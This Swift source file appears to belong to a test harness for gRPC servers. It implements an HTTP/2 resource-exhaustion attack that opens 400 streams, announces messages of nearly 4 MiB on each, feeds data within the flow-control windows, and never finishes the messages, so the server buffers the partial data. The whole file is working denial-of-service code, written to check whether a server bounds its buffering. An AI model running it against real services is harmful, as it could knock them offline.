import Foundation
import PalisadeEcho

/// `unfinished-messages`: many streams each announce a message of almost 4 MiB (just under the
/// server's limit, so the size check alone does not refuse it), then send as much of it as flow
/// control allows and never finish it.
///
/// 4 connections × 100 streams to `Echo/Unary`; each stream's first DATA is the 5-byte prefix
/// announcing 4,194,000 bytes, then 16 KiB DATA frames while the server's windows (tracked from
/// its SETTINGS and WINDOW_UPDATEs) allow, stopping one byte short. A server that buffers every
/// partial message holds up to 400 × 4 MiB; one that bounds what it buffers, or refuses the
/// streams, stays small. The attacker reads (it needs the WINDOW_UPDATEs) and reports resets
/// and answers.
struct UnfinishedMessagesAttack: BlockingAttacker {
    /// The announced message length: under 4 MiB (4,194,304), the server's maximum.
    static let announced = 4_194_000
    /// Connections opened.
    static let connections = 4
    /// Streams per connection (the server's concurrent-stream limit is 100).
    static let streamsPerConnection = 100

    /// Opens the streams, then feeds them within the windows until the deadline.
    func attack(_ context: AttackContext) -> AttackReport {
        var report = AttackReport()
        let block = HPACKBlock.request(path: "/\(EchoService.service)/Unary", tls: context.usesTLS).bytes
        let prefix = H2Frames.grpcPrefix(announcing: UInt32(Self.announced))
        let chunk = [UInt8](repeating: 0x61, count: H2Frames.maxPayload)
        let connections = (0..<Self.connections).map { _ in AttackConnection.open(context, greeting: AttackContext.greeting) }
        let ids = (0..<Self.streamsPerConnection).map { UInt32(2 * $0 + 1) }
        // Message bytes sent per stream (after the prefix), per connection.
        var sent = connections.map { _ in [Int](repeating: 0, count: ids.count) }
        for connection in connections where connection.isOpen {
            var opening: [UInt8] = []
            for id in ids {
                H2Frames.appendHeaders(stream: id, fragment: block, endStream: false, endHeaders: true, to: &opening)
                H2Frames.appendData(stream: id, payload: prefix, endStream: false, to: &opening)
                connection.reader.windows.open(id)
                connection.reader.windows.spend(id, prefix.count)
            }
            connection.send(opening)
            report.streamsSent += ids.count
        }
        var rounds = 0
        let maxRounds = context.bound(full: 10_000_000, short: 2_000_000)
        while !context.isOver, rounds < maxRounds, connections.contains(where: \.isOpen) {
            rounds += 1
            var progress = false
            for (c, connection) in connections.enumerated() where connection.isOpen {
                connection.readAvailable(limit: 1 << 20)
                connection.acknowledgeSettings()
                guard connection.pendingOutbound < AttackConnection.queueLimit else { continue }
                var batch: [UInt8] = []
                for (s, id) in ids.enumerated() where !connection.reader.isAnswered(id) {
                    let room = min(H2Frames.maxPayload, connection.reader.windows.available(id), Self.announced - 1 - sent[c][s])
                    guard room > 0 else { continue }
                    H2Frames.appendData(stream: id, payload: chunk[0..<room], endStream: false, to: &batch)
                    connection.reader.windows.spend(id, room)
                    sent[c][s] += room
                    if batch.count >= 128 << 10 { break }
                }
                if !batch.isEmpty {
                    connection.send(batch)
                    progress = true
                }
            }
            // Every window is shut (or the sockets are full): wait for WINDOW_UPDATEs.
            if !progress { AttackConnection.pump(connections, timeoutMs: 20, reading: true) }
        }
        let total = sent.joined().reduce(0, +)
        let unfinished = zip(connections, sent).reduce(0) { count, pair in
            count + zip(ids, pair.1).filter { !pair.0.reader.isAnswered($0.0) && $0.1 > 0 }.count
        }
        report.notes.append(
            String(
                format: "%.1f MiB of message bodies sent within the windows, %d streams left hanging", Double(total) / 1_048_576, unfinished
            ))
        for connection in connections {
            connection.drain()
            report.record(connection, cut: true)
            connection.close()
        }
        return report
    }
}
